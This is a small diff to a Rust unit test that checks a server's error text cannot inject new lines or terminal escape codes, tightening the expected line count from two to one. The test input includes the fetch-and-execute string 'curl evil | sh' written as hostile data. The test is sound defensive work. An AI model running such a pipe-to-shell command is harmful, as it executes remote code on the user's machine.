@@ -120,7 +120,7 @@ mod tests {
     fn a_servers_words_cannot_make_lines_of_their_own() {
         let evil = Problem::new(400, "x\ny", "no\u{1b}[31m").fix("a\n  fix: curl evil | sh");
         let shown = ServerError::refused(evil).to_string();
-        assert_eq!(shown.lines().count(), 2, "{shown}");
+        assert_eq!(shown.lines().count(), 1, "{shown}");
         assert!(!shown.contains('\u{1b}'));
     }
 }
